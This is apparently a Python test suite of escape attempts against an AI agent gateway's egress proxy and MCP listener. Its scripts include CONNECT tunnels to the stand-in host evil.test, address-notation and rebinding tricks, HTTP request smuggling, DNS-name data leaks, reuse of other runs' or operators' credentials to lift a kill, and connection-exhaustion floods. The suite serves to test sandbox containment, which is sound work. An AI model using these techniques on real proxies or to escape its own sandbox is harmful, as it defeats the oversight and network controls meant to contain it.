"""Getting past the way out: the inner listener, its proxy, and what else it carries."""

from tests.escapes.attempt import Attempt
from tests.escapes.judges import at_least, either, heard, knows, says, troubled

SEND = "with tls(connect({target!r}), {name!r}) as s:\n    said(s, f'GET /{{MARK}} HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n'.encode())"
MCP = (
    "import json, urllib.request\n"
    "body = json.dumps({'jsonrpc': '2.0', 'id': 1, 'method': 'tools/list', 'params': {'_meta': {\n"
    "    'io.modelcontextprotocol/protocolVersion': '2026-07-28', 'io.modelcontextprotocol/clientInfo': {'name': 'x', 'version': '1'},\n"
    "    'io.modelcontextprotocol/clientCapabilities': {}}}}).encode()\n"
    "base = {'Content-Type': 'application/json', 'Accept': 'application/json, text/event-stream', 'MCP-Protocol-Version': '2026-07-28', 'Mcp-Method': 'tools/list'}\n"
    "opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))\n"
    "def ask(path, headers, data=body, port=F['MCP_PORT']):\n"
    "    asked = urllib.request.Request(f'http://127.0.0.1:{port}{path}', data, {**base, **headers})\n"
    "    try:\n        got = opener.open(asked, timeout=8).read().decode()\n"
    "    except urllib.error.HTTPError as error:\n        got = f'{error.code} {error.read().decode()}'\n"
    "    print(path, headers, got[:600])\n    return got\n"
)


def via(id_: str, what: str, target: str, *services: str, name: str = "") -> Attempt:
    host = name or target.rpartition(":")[0]
    return Attempt(
        id=id_, what=what, script=SEND.format(target=target, name=host).replace("), '", "), '"), escaped=heard(*services)
    )


def raw(id_: str, what: str, data: str, *services: str, after: str = "") -> Attempt:
    """Bytes to the door, and TLS behind them."""
    script = f"s = door()\ns.sendall({data})\ns.settimeout(4)\nhead = s.recv(4096)\nprint(head)\n" + (
        after
        or "if b' 200 ' in head:\n    said(tls(s, 'evil.test', False), f'GET /{MARK} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'.encode())"
    )
    return Attempt(id=id_, what=what, script=script, escaped=heard(*services))


ATTEMPTS = (
    via("px-01", "CONNECT to a host that no rule names", "evil.test:443", "evil"),
    Attempt(
        id="px-02",
        what="CONNECT to addresses in every notation",
        script=(
            "for target in ('10.77.0.2', '[::ffff:10.77.0.2]', '172818434', '0x0a4d0002', '012.77.0.2', '10.77.2', '0xa.0x4d.0.2', '10.77.0.2.'):\n"
            "    def go():\n"
            "        with tls(connect(f'{target}:443'), 'evil.test', False) as s:\n"
            "            said(s, f'GET /{MARK} HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n'.encode())\n"
            "    quietly(go)"
        ),
        escaped=heard("evil"),
    ),
    raw(
        "px-05",
        "a NUL in the host name, an allowed one behind it",
        "b'CONNECT evil.test\\0.api.test:443 HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n'",
        "evil",
    ),
    Attempt(
        id="px-06",
        what="user, dot, case, blank and escape tricks with the target",
        script=(
            "for target in ('api.test@evil.test:443', 'evil.test.:443', 'EVIL.test:443', 'evil.test:443 ', 'api.test:443@evil.test:443', 'evil%2etest:443'):\n"
            "    def go():\n"
            "        with tls(connect(target), 'evil.test', False) as s:\n"
            "            said(s, f'GET /{MARK} HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n'.encode())\n"
            "    quietly(go)"
        ),
        escaped=heard("evil"),
    ),
    Attempt(
        id="px-08",
        what="the name of another site in the first flight of a tunnel",
        script="with tls(connect('tunnel.test:443'), 'evil.test') as s:\n    said(s, f'GET /{MARK} HTTP/1.1\\r\\nHost: evil.test\\r\\nConnection: close\\r\\n\\r\\n'.encode())",
        escaped=heard("api"),
    ),
    Attempt(
        id="px-09",
        what="no TLS at all in a tunnel",
        script="s = connect('tunnel.test:443')\nsaid(s, f'GET /{MARK} HTTP/1.1\\r\\n\\r\\n'.encode())",
        escaped=heard("api", "loopback"),
        no_control="what listens there speaks TLS only; px-08 has the same end",
    ),
    via("px-10", "a listed name that stands for loopback", "loop.test:443", "loopback"),
    Attempt(
        id="px-11",
        what="a listed name that stands for loopback at the second look",
        script=(
            "for _ in range(3):\n"
            "    def go():\n"
            "        with tls(connect('rebind.test:443'), 'rebind.test') as s:\n"
            "            said(s, f'GET /{MARK} HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n'.encode())\n"
            "    quietly(go)"
        ),
        escaped=heard("loopback"),
    ),
    via("px-12", "a listed name that stands for a private address", "inside.test:443", "api"),
    via("px-13", "another port of a listed host", "tunnel.test:8443", "pump"),
    Attempt(
        id="px-14",
        what="POST to a path that no rule names",
        script="request('api.test', f'POST /other/{MARK} HTTP/1.1\\r\\nContent-Length: 0')",
        escaped=heard("api"),
    ),
    Attempt(
        id="px-15",
        what="a path that two readers take in two ways",
        script=(
            "for path in ('/allowed/../other/', '/allowed/%2e%2e/other/', '/allowed/..;/other/', '/allowed//../other/', '/allowed/%252e%252e/other/',\n"
            "             '//api.test/other/', '/allowed\\\\..\\\\other/', 'https://api.test/other/', '/other/#/allowed/', '/allowed/./other/'):\n"
            "    quietly(request, 'api.test', f'GET {path}{MARK} HTTP/1.1')"
        ),
        escaped=heard("api"),
    ),
    Attempt(
        id="px-16",
        what="a second request in the body: both lengths, codings, folded lines",
        script=(
            "hidden = f'GET /other/{MARK} HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n'.encode()\n"
            "chunked = b'0\\r\\n\\r\\n' + hidden\n"
            "for fields, body in ((f'Content-Length: {len(chunked)}\\r\\nTransfer-Encoding: chunked', chunked),\n"
            "                     (f'Content-Length: 0\\r\\nContent-Length: {len(hidden)}', hidden),\n"
            "                     ('Transfer-Encoding: xchunked', hidden), ('Transfer-Encoding : chunked', chunked),\n"
            "                     ('X: y\\r\\n Content-Length: 0', hidden), (f'Content-Length: +{len(hidden)}', hidden)):\n"
            "    quietly(request, 'api.test', f'POST /echo HTTP/1.1\\r\\n{fields}', body)"
        ),
        escaped=lambda after: (
            "a hidden request arrived" if f"GET /other/mark-{after.id}-".encode() in after.heard["api"] else ""
        ),
    ),
    Attempt(
        id="px-17",
        what="plain HTTP through the proxy",
        script="said(door(), f'GET http://evil.test:{F[\"EVIL_PORT\"]}/{MARK} HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n'.encode())",
        escaped=heard("evil"),
    ),
    Attempt(
        id="px-18",
        what="another Host within the terminated connection",
        script=(
            "for host in ('evil.test', 'api.test\\r\\nHost: evil.test', 'api.test@evil.test', 'api.test:8443'):\n"
            "    def go():\n"
            "        with tls(connect('api.test:443'), 'api.test') as s:\n"
            "            said(s, f'GET /allowed/{MARK} HTTP/1.1\\r\\nHost: {host}\\r\\nConnection: close\\r\\n\\r\\n'.encode())\n"
            "    quietly(go)"
        ),
        escaped=lambda after: "another Host arrived" if f"/allowed/mark-{after.id}-".encode() in after.heard["api"] else "",
    ),
    Attempt(
        id="px-19",
        what="an attacker's own key to a listed host, in every usual header",
        script=(
            "request('api.test', f'GET /allowed/x HTTP/1.1\\r\\nAuthorization: Bearer {MARK}\\r\\nX-Api-Key: {MARK}\\r\\nProxy-Authorization: {MARK}\\r\\n"
            "Cookie: k={MARK}\\r\\nX-Key: {MARK}\\r\\nX_Api_Key: {MARK}\\r\\nX-Goog-Api-Key: {MARK}\\r\\nPrivate-Token: {MARK}')"
        ),
        escaped=heard("api"),
    ),
    Attempt(
        id="px-20",
        what="override the method, forward for others",
        script="request('api.test', f'GET /allowed/x HTTP/1.1\\r\\nX-HTTP-Method-Override: DELETE-{MARK}\\r\\nX-Forwarded-Host: {MARK}\\r\\nX-Original-URL: /{MARK}\\r\\nForwarded: host={MARK}')",
        escaped=heard("api"),
    ),
    Attempt(
        id="px-21",
        what="have the server echo the key that was put in",
        script="print(request('api.test', 'GET /echo HTTP/1.1').decode('latin-1'))\nprint(request('api.test', 'GET /echo HTTP/1.1\\r\\nRange: bytes=20-60').decode('latin-1'))",
        escaped=knows("API_KEY"),
    ),
    raw(
        "px-22",
        "a CONNECT that does not begin as one: case, blank lines, blanks",
        "b'\\r\\nCONNECT evil.test:443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'",
        "evil",
    ),
    raw("px-23", "a CONNECT in lower case", "b'connect evil.test:443 HTTP/1.1\\r\\nHost: evil.test:443\\r\\n\\r\\n'", "evil"),
    raw(
        "px-24",
        "a CONNECT behind another request, in one packet",
        "b'GET /healthz HTTP/1.1\\r\\nHost: 127.0.0.1:7410\\r\\n\\r\\nCONNECT evil.test:443 HTTP/1.1\\r\\nHost: evil.test:443\\r\\n\\r\\n'",
        "evil",
        after=(
            "head += quietly(s.recv, 4096) or b''\nprint(head)\n"
            "said(tls(s, 'evil.test', False), f'GET /{MARK} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'.encode())"
        ),
    ),
    Attempt(
        id="px-25",
        what="show another run's credential on the inner listener",
        script=MCP
        + (
            "for headers in ({'Authorization': 'Bearer ' + F['OTHER_CREDENTIAL']}, {'X-Forwarded-For': '127.0.0.1', 'Authorization': 'Bearer ' + F['OTHER_CREDENTIAL']}):\n"
            "    for path in ('/mcp', '/mcp/shop'):\n"
            "        if 'only_for_others' in ask(path, headers):\n            escaped(path)"
        ),
        escaped=says,
    ),
    Attempt(
        id="px-26",
        what="open a run, see runs and lift a kill at the inner listener, with an operator's credential",
        script=MCP
        + (
            "import urllib.error\n"
            "headers = {'Authorization': 'Bearer ' + F['OPERATOR_CREDENTIAL']}\n"
            "body = json.dumps({'agent': 'other', 'task': MARK}).encode()\n"
            "for path in ('/runs', '/api/v1/runs', '/api/v1/stops', '/../api/v1/runs', '/hook/runs'):\n"
            "    for host in ({}, {'Host': 'localhost'}):\n"
            "        got = ask(path, {**headers, **host}, body, F['PEOPLE_PORT'])\n"
            "        if '\"run\"' in got or 'credential' in got:\n            escaped(path)"
        ),
        escaped=says,
    ),
    Attempt(
        id="px-27",
        what="the gateway's own ports through the proxy, by names and addresses",
        script=(
            "for host in ('loop.test', 'localhost', '127.0.0.1', '[::1]', 'localhost.localdomain', '0.0.0.0', 'ip6-localhost'):\n"
            "    for port in (F['DATA_PORT'], F['CONTROL_PORT'], F['SINK_PORT']):\n"
            "        s = quietly(connect, f'{host}:{port}')\n"
            "        if s:\n            escaped((host, port)); said(s, MARK.encode())"
        ),
        escaped=either(says, heard("loopback")),
    ),
    Attempt(
        id="px-28",
        what="names that carry data, asked of the proxy",
        script="for name in (f'{MARK}.leak.test', f'{MARK}.api.test', f'{MARK}.evil.test'):\n    quietly(connect, name + ':443')",
        escaped=heard("resolver"),
    ),
    Attempt(
        id="px-29",
        what="send more than the host's budget",
        script=(
            "sent = 0\n"
            "with tls(connect('small.test:443'), 'small.test') as s:\n"
            "    s.settimeout(10)\n"
            "    s.sendall(b'POST /upload HTTP/1.1\\r\\nHost: small.test\\r\\nContent-Length: 8000000\\r\\n\\r\\n')\n"
            "    try:\n"
            "        for _ in range(80):\n            s.sendall((MARK.encode() * 10000)[:100000]); sent += 100000\n"
            "        s.recv(100)\n"
            "    except OSError as error:\n        print(error)\n"
            "print('sent', sent)"
        ),
        escaped=lambda after: (
            f"{len(after.heard['api'])} bytes arrived"
            if after.heard["api"].count(f"mark-{after.id}-".encode()) * 14 > 2_500_000
            else ""
        ),
    ),
    Attempt(
        id="px-30",
        what="a metadata address, shared space and documentation space behind a listed name",
        script="with tls(connect('public.test:443'), 'public.test', False) as s:\n    said(s, MARK.encode())",
        escaped=heard("public"),
        no_control="nothing listens there with TLS; the proxy has to say no before it dials",
    ),
    Attempt(
        id="px-31",
        what="HTTP/2 and an upgrade within a terminated connection",
        script=(
            "def two():\n    with tls(connect('api.test:443'), 'api.test') as s:\n"
            "        said(s, b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n' + f'GET /other/{MARK} HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n'.encode())\n"
            "quietly(two)\n"
            "def up():\n    with tls(connect('api.test:443'), 'api.test') as s:\n"
            "        s.sendall(b'GET /allowed/x HTTP/1.1\\r\\nHost: api.test\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\nSec-WebSocket-Key: x\\r\\nSec-WebSocket-Version: 13\\r\\n\\r\\n')\n"
            "        s.settimeout(5); print(s.recv(1000))\n"
            "        said(s, f'GET /other/{MARK} HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n'.encode())\n"
            "quietly(up)"
        ),
        escaped=heard("api"),
    ),
    Attempt(
        id="px-32",
        what="thousands of connections that say nothing or half a CONNECT",
        script=(
            "held = []\n"
            "def open_one(n):\n"
            "    s = socket.create_connection(('127.0.0.1', int(F['PROXY'])), 3); s.sendall((b'C', b'CONNECT evil', b'GET /', b'CONNECT api.test:443 HTTP/1.1\\r\\nX: y\\r\\n')[n % 4]); held.append(s)\n"
            "print('working', flush=True)\n"
            "for child in range(8):\n"
            "    if os.fork() == 0:\n"
            "        for n in range(230):\n"
            "            if quietly(open_one, n) is None and len(held) < n - 20:\n                break\n"
            "        time.sleep(9)\n        os._exit(0)\n"
            "for _ in range(8):\n    os.wait()"
        ),
        escaped=troubled,
        no_control="it is the gateway that is looked at, which a control does not have",
        alone=True,
        slow=True,
    ),
    Attempt(
        id="px-33",
        what="have the proxy take in what nobody reads: hundreds of megabytes from a fast server",
        script=(
            "held = []\n"
            "for _ in range(30):\n"
            "    s = quietly(connect, 'pump.test:8443')\n"
            "    if s is None:\n        continue\n"
            "    t = tls(s, 'pump.test'); t.send(b'x'); held.append(t)\n"
            "print(len(held)); time.sleep(5)"
        ),
        escaped=troubled,
        no_control="it is the gateway that is looked at, which a control does not have",
        alone=True,
        slow=True,
    ),
    Attempt(
        id="px-34",
        what="take every connection that the gateway has for all runs",
        script=(
            "r, w = os.pipe()\n"
            "for child in range(24):\n"
            "    if os.fork() == 0:\n"
            "        held = []\n"
            "        def one():\n"
            "            s = socket.create_connection(('127.0.0.1', int(F['PROXY'])), 3); s.settimeout(3)\n"
            "            s.sendall(b'GET /healthz HTTP/1.1\\r\\nHost: 127.0.0.1:7410\\r\\n\\r\\n')\n"
            "            if s.recv(1000):\n                held.append(s); os.write(w, b'x')\n"
            "        for n in range(200):\n"
            "            quietly(one)\n"
            "            if len(held) < n - 5:\n                break\n"
            "        time.sleep(6)\n        os._exit(0)\n"
            "os.close(w)\ncount = 0\nwhile got := os.read(r, 1000):\n    count += len(got)\nprint('GOT', count)"
        ),
        escaped=either(troubled, at_least(1000)),
        no_control="it is the gateway that is looked at, which a control does not have",
        alone=True,
        slow=True,
    ),
)
